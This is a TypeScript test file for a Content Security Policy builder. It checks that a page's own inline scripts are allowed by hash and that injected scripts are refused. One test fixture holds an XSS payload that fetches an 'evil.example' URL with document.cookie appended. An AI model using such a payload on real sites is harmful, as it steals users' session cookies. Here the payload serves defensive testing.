import { createHash } from 'node:crypto'
import { expect, test } from 'vitest'
import { framePolicy, pagePolicy } from './content-security-policy'

const hash = (text: string) => `'sha256-${createHash('sha256').update(text).digest('base64')}'`
const directive = (html: string, name: string) =>
  pagePolicy(html)
    .header.split('; ')
    .find((text) => text.startsWith(`${name} `))

test('Next’s inline scripts are allowed by their hashes', () => {
  const [first, second] = ['self.__next_f.push([1,"a"])', 'self.__next_f.push([1,"б\\n"])']
  const html = `<script src="/_next/a.js" async=""></script><script>${first}</script><script id="_R_">${second}</script>`
  expect(directive(html, 'script-src')).toBe(`script-src 'self' ${hash(first)} ${hash(second)}`)
  expect(pagePolicy(html).refused).toBe(0)
})

test('a script that somebody wrote into the page is not', () => {
  const html = '<p><script>fetch("//evil.example?"+document.cookie)</script></p>'
  expect(directive(html, 'script-src')).toBe(`script-src 'self'`)
  expect(pagePolicy(html).refused).toBe(1)
})

test('data in a script element needs no leave', () => {
  expect(pagePolicy('<script type="application/ld+json">{"@type":"Dataset"}</script>').refused).toBe(0)
})

test('a repeated script is named once', () => {
  const script = '<script>$RC("B:0","S:0")</script>'
  expect(directive(script + script, 'script-src')).toBe(`script-src 'self' ${hash('$RC("B:0","S:0")')}`)
})

test('style elements are allowed by hash, style attributes as they are', () => {
  const html = '<style>p{color:red}</style><p style="left:10%">'
  expect(directive(html, 'style-src')).toBe(`style-src 'self' ${hash('p{color:red}')}`)
  expect(directive(html, 'style-src-attr')).toBe(`style-src-attr 'unsafe-inline'`)
})

test('nothing else may be loaded, framed, or posted to', () => {
  expect(pagePolicy('').header).toBe(
    "default-src 'self'; img-src 'self' data:; font-src 'self'; connect-src 'self'; object-src 'none'; base-uri 'none'; " +
      "form-action 'self'; frame-ancestors 'none'; script-src 'self'; style-src 'self'; style-src-attr 'unsafe-inline'",
  )
})

test('a page for frames may be shown anywhere, and no script of it runs', () => {
  expect(framePolicy('<script>1</script>')).toBe(
    "default-src 'self'; img-src 'self' data:; font-src 'self'; connect-src 'none'; object-src 'none'; base-uri 'none'; " +
      "form-action 'none'; frame-ancestors *; script-src 'none'; style-src 'self'; style-src-attr 'unsafe-inline'",
  )
})
